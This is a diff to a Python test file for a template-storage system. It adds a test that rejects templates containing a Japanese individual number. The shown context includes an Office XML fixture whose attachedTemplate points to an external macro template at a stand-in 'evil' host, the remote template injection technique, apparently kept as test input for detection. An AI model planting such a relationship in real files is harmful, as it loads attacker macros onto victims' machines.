@@ -126,6 +126,12 @@ def test_places_that_do_not_fit_are_named(paragraphs, named):
     assert kept_template("ja") is None
 
 
+def test_a_template_that_holds_an_individual_number_leaves_nothing_behind():
+    with pytest.raises(RuleBroken, match="individual_number"):
+        keep(template("[[title]]", "[[body]]", "個人番号 123456789018"))  # invented
+    assert not Document.objects.filter(pk="report-template-ja").exists()
+
+
 RELATIONS = b"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
 <Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
  Target="http://example.com/evil.dotm" TargetMode="External"/></Relationships>"""
